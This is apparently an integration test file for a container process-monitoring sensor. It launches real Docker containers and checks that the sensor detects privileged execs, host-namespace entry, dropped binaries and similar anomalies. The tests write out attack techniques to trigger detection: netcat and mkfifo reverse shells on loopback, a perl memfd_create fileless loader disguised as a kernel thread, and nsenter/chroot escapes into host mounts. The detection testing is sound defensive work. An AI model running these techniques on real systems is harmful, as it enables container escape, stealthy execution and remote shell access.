import { type ChildProcess, spawn } from 'node:child_process';
import { Subject, type Subscription } from 'rxjs';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { connectEngine, type EngineClient } from '../../collector/engine/client.ts';
import { containerFacts } from '../../collector/engine/facts/container.ts';
import { createPatient } from '../../collector/procfs/patient.ts';
import { createProcessesSensor } from '../../collector/sensors/processes.ts';
import type { SweptContainer } from '../../collector/sweeps.ts';
import type { ContainerFacts, Observation, ProcessFacts } from '../../shared/observation.ts';
import { createRedactor } from '../../shared/redact.ts';
import { workloadOf } from '../../shared/workload.ts';
import { eventually } from '../support/eventually.ts';
import { noAnswers } from '../support/inspect.ts';
import { type Lab, startLab } from '../support/lab.ts';

/** Processes of real containers, from the real /proc. In the lab the engine's network namespace is another than that of process 1. */
let lab: Lab;
let client: EngineClient;
let subscription: Subscription | undefined;
let refreshing: NodeJS.Timeout | undefined;
let guest: ChildProcess | undefined;
let seen: Observation[] = [];
const stirred$ = new Subject<string>();

interface Known extends SweptContainer {
  readonly configuration: ContainerFacts;
}

beforeAll(async () => {
  lab = startLab();
  client = await connectEngine({ kind: 'socket', path: lab.socket });
});
beforeEach(() => {
  seen = [];
});
afterEach(async () => {
  subscription?.unsubscribe();
  clearInterval(refreshing);
  guest?.kill('SIGKILL');
  await lab.sh('docker rm -fv $(docker ps -aq) >/dev/null 2>&1; true');
});
afterAll(async () => {
  client.close();
  await lab.clean();
  lab.stop();
});

async function running(): Promise<readonly Known[]> {
  const ids = (await lab.sh('docker ps -q --no-trunc')).split('\n').filter(Boolean);
  const inspects = await Promise.all(ids.map((id) => client.inspectContainer(id)));
  return inspects.flatMap((inspect) => {
    const pid = inspect?.State?.Pid ?? 0;
    if (inspect === undefined || pid === 0) return [];
    const configuration = containerFacts(inspect, noAnswers);
    return {
      id: inspect.Id,
      pid,
      startedAt: configuration.started_at ?? 0,
      hostNetwork: false,
      nanoCpus: 0,
      memoryLimit: 0,
      configuration,
      at: () => ({ container: configuration, workload: workloadOf('h', configuration) }),
    };
  });
}

/** As the collector does it: containers become known while they start. */
async function watch(): Promise<void> {
  let containers: readonly Known[] = await running();
  const refresh = async (): Promise<void> => {
    containers = await running().catch(() => containers);
    for (const { id } of containers) stirred$.next(id);
  };
  refreshing = setInterval(() => void refresh(), 300);
  const sensor = createProcessesSensor({
    procfs: '/proc',
    rootfs: '/',
    fastMs: 100,
    slowMs: 500,
    stirred$,
    execs$: new Subject<number>(),
    redactor: createRedactor('key'),
    patient: createPatient(),
    gaveUp: () => false,
    containers: () => containers,
    configuration: (id) => containers.find((known) => known.id === id)?.configuration,
    host: () => ({ id: 'h', name: 'anchor' }),
    now: Date.now,
  });
  expect(await sensor.available()).toBeUndefined();
  subscription = sensor.observe().subscribe((observation) => seen.push(observation));
}

const find = (line: string, also: (found: Observation) => boolean = () => true): Promise<ProcessFacts> =>
  eventually(
    () => seen.find((one) => one.process?.command_line === line && also(one))?.process,
    () =>
      `${line} was not seen among ${seen.map(({ event, process }) => `${event.action} ${process?.command_line}`).join(', ')}`,
  );

/** What none of an ordinary container's processes has. */
const oddities = ({ capabilities, root_place, exe, stdio, origin, ...facts }: ProcessFacts) => ({
  beyond: capabilities?.beyond ?? [],
  root: root_place === 'container' ? undefined : root_place,
  layer: exe?.layer === 'lower' ? undefined : exe?.layer,
  deleted: exe?.deleted === true,
  socket: stdio?.socket,
  entered: origin === 'entered' || origin === undefined,
  undeclared: facts.ns_undeclared,
  foreign: facts.ns_foreign,
  unprotected: facts.seccomp_missing === true || facts.no_new_privileges_missing === true || facts.lsm_missing === true,
  masquerade: facts.masquerades_as,
  libraries: facts.libraries_foreign ?? [],
  injected: facts.env_injected ?? [],
  outside: facts.working_directory_outside === true,
});
const none = {
  beyond: [],
  root: undefined,
  layer: undefined,
  deleted: false,
  socket: undefined,
  entered: false,
  undeclared: [],
  foreign: [],
  unprotected: false,
  masquerade: undefined,
  libraries: [],
  injected: [],
  outside: false,
};

describe('processes of ordinary containers', () => {
  it('have nothing odd about them, while they begin, in health checks and in execs', async () => {
    await watch();
    await lab.sh(`docker run -d --name web --network none -u 1000 --security-opt no-new-privileges \
        --health-interval 1s --health-cmd 'sleep 0.4' $B sh -c 'sleep 901 & sleep 902; true'
      docker run -d --name joined --network container:web --pid container:web --ipc host -e LD_PRELOAD= $B sleep 903
      docker run -dt --init --name inited --network none -v /srv:/srv -w /srv --tmpfs /tmp $B sh -c 'exec sleep 905'
      docker exec -d web sh -c 'sleep 904; true'`);
    expect(await find('sleep 901')).toMatchObject({
      executable: ['/bin/busybox', '/bin/sleep'],
      name: 'busybox',
      argv0: 'sleep',
      user: { id: 1000 },
      seccomp: 'filter',
      no_new_privileges: true,
      origin: 'descendant',
      ancestors: ['/bin/busybox'],
      parent: { command_line: 'sh -c sleep 901 & sleep 902; true' },
      is_shell: false,
      stdio: { in: 'null' },
      tty: false,
    });
    expect(await find('sh -c sleep 901 & sleep 902; true')).toMatchObject({ origin: 'init', vpid: 1, is_shell: true });
    expect(await find('sleep 904')).toMatchObject({
      origin: 'exec',
      parent: { command_line: 'sh -c sleep 904; true' },
    });
    expect((await find('sleep 903')).ns_host).toContain('ipc');
    expect(await find('sleep 905')).toMatchObject({
      tty: true,
      stdio: { in: 'tty' },
      origin: 'descendant',
      working_directory: '/srv',
    });
    await find('sleep 0.4');
    // The engine's own small init is a file of the host that is mounted there.
    const init = seen.find(({ process }) => process?.name === 'docker-init')?.process;
    expect(init).toMatchObject({ origin: 'init', exe: { layer: 'volume' } });
    const processes = seen.flatMap(({ process }) =>
      process === undefined || process.pid === init?.pid ? [] : [process],
    );
    expect(processes.map((process) => ({ ...oddities(process), line: process.command_line }))).toEqual(
      processes.map(({ command_line }) => ({ ...none, line: command_line })),
    );
    expect(new Set(seen.map(({ id }) => id)).size).toBe(seen.length);
    // Another collector sees the same of what is still there.
    subscription?.unsubscribe();
    const before = new Set(seen.map(({ id }) => id));
    seen = [];
    await watch();
    await find('sleep 903');
    await find('sleep 902');
    const again = seen.filter(({ process }) => process?.command_line?.startsWith('sleep 90'));
    expect(again.filter(({ id }) => !before.has(id))).toEqual([]);
  });
});

describe('processes that have more than their container', () => {
  it('exec --privileged: rights beyond it, and not those that it was given', async () => {
    await lab.sh('docker run -d --name plain --network none --cap-add NET_ADMIN $B');
    await watch();
    await lab.sh('docker exec -d --privileged plain sleep 911; docker exec -d plain sleep 912');
    const found = await find('sleep 911');
    expect(found).toMatchObject({ origin: 'exec', root_place: 'container', ns_undeclared: [] });
    expect(found.capabilities?.beyond).toContain('CAP_SYS_ADMIN');
    expect(found.capabilities?.beyond).not.toContain('CAP_NET_ADMIN');
    expect(await find('sleep 912')).toMatchObject({ capabilities: { beyond: [] } });
  });

  it('R61: a root in a mounted host directory, or the host’s', async () => {
    await lab.sh('docker run -d --name rooted --network none -v /:/host:ro -v /usr:/data:ro $B');
    await watch();
    await lab.sh(`docker exec -d rooted chroot /host /usr/bin/sleep 921
      docker exec rooted sh -c 'mkdir -p /tmp/jail/bin; cp /bin/busybox /tmp/jail/bin/sleep'
      docker exec -d rooted chroot /tmp/jail /bin/sleep 922`);
    expect(await find('/usr/bin/sleep 921')).toMatchObject({ root_place: 'host', exe: { layer: 'volume' } });
    expect(await find('/bin/sleep 922')).toMatchObject({ root_place: 'inside', exe: { layer: 'upper' } });
  });

  it('R30: namespaces of the host that were not declared', async () => {
    const daemon = (await lab.sh(`cat ${lab.dir}/run/docker.pid`)).trim();
    await lab.sh('docker run -d --name wide --network none --pid host $P $B');
    await watch();
    await lab.sh(`docker exec -d wide nsenter -t ${daemon} -m -u -i -- /usr/bin/sleep 931`);
    const found = await find('/usr/bin/sleep 931');
    expect(found).toMatchObject({ ns_undeclared: ['mnt', 'ipc', 'uts'], exe: { layer: 'host' } });
    expect(found.ns_host).toContain('pid');
    expect(await find('sleep 3600')).toMatchObject({ ns_undeclared: [], origin: 'init' });
  });

  it('EXE-11: entered from the host, not through the engine', async () => {
    await lab.sh('docker run -d --name entered --network none $B');
    await watch();
    const [container] = await running();
    const login = 'echo 4242 > /proc/self/loginuid && exec "$@"';
    const enter = ['nsenter', '-t', String(container?.pid), '-m', '-p', '--', '/bin/sleep', '941'];
    guest = spawn('sh', ['-c', login, 'sh', ...enter], { stdio: 'ignore' });
    const found = await find('/bin/sleep 941');
    expect(found).toMatchObject({
      origin: 'entered',
      executable: ['/bin/busybox', '/bin/sleep'],
      login_user: { id: 4242 },
    });
    expect(found.parent?.command_line).toContain('nsenter -t');
  });
});

describe('what processes run', () => {
  it('R40, R53: files of the writable layer, of tmpfs and deleted ones, and scripts there', async () => {
    await lab.sh('docker run -d --name drop --network none --tmpfs /shm:exec $B');
    await watch();
    await lab.sh(`docker exec drop sh -c 'cp /bin/busybox /tmp/sleep; cp /bin/busybox /shm/sleep; echo "sleep 953; true" >/tmp/job.sh'
      docker exec -d drop /tmp/sleep 951
      docker exec -d drop /shm/sleep 952
      docker exec -d -w /tmp drop sh ./job.sh`);
    const dropped = await find('/tmp/sleep 951');
    expect(dropped).toMatchObject({ executable: '/tmp/sleep', name: 'sleep', exe: { layer: 'upper', deleted: false } });
    expect(dropped.exe?.age_s).toBeGreaterThan(0);
    expect(await find('/shm/sleep 952')).toMatchObject({ exe: { layer: 'tmpfs' } });
    expect(await find('sh ./job.sh')).toMatchObject({
      script: { path: '/tmp/job.sh', layer: 'upper' },
      exe: { layer: 'lower' },
      is_shell: true,
    });
    await lab.sh('docker exec drop rm /tmp/sleep');
    expect(await find('/tmp/sleep 951', ({ event }) => event.action === 'change')).toMatchObject({
      executable: '/tmp/sleep',
      exe: { layer: 'upper', deleted: true },
    });
  });

  it('R39: a program that is in memory only, under the name of a kernel thread', async () => {
    // The image has no perl: the host's own, with the libraries where it looks for them.
    await lab.sh(
      'docker run -d --name memory --network none -v /usr:/usr:ro -v /usr/lib:/lib:ro -v /usr/lib64:/lib64:ro $B',
    );
    await watch();
    const script =
      '$n="x"; $f=syscall(319,$n,0); open $h,">&=$f"; open $b,"<","/usr/bin/sleep"; binmode $_ for $h,$b; {local $/; syswrite $h,<$b>} $^F=255; exec {"/proc/self/fd/$f"} "[kworker/0:1]","961"';
    await lab.sh(`docker exec -d memory perl -e '${script}'`);
    expect(await find('[kworker/0:1] 961')).toMatchObject({
      exe: { layer: 'memfd', deleted: true },
      masquerades_as: 'kernel-thread',
      executable: '/memfd:x',
    });
  });

  it('R42: shells on a socket, directly or through a pipe, and none for what only talks to somebody', async () => {
    await lab.sh('docker run -d --name shell --network none $B');
    await watch();
    await lab.sh(`docker exec -d shell sh -c 'sleep 60 | nc -l -p 4444'
      docker exec -d shell sh -c 'sleep 60 | nc -l -p 4445'
      sleep 1
      docker exec -d shell nc 127.0.0.1 4444 -e /bin/sh
      docker exec -d shell sh -c 'mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc 127.0.0.1 4445 >/tmp/f'`);
    const direct = { via: 'direct', ip: '127.0.0.1', port: 4444, scope: 'loopback' };
    expect(await find('/bin/sh', ({ process }) => process?.stdio?.socket !== undefined)).toMatchObject({
      stdio: { in: 'socket', out: 'socket', socket: direct },
      is_shell: true,
    });
    expect(await find('sh -i', ({ process }) => process?.stdio?.socket !== undefined)).toMatchObject({
      stdio: { in: 'pipe', out: 'pipe', socket: { via: 'pipe', port: 4445 } },
    });
    expect((await find('nc 127.0.0.1 4445')).stdio).not.toHaveProperty('socket');
  });
});
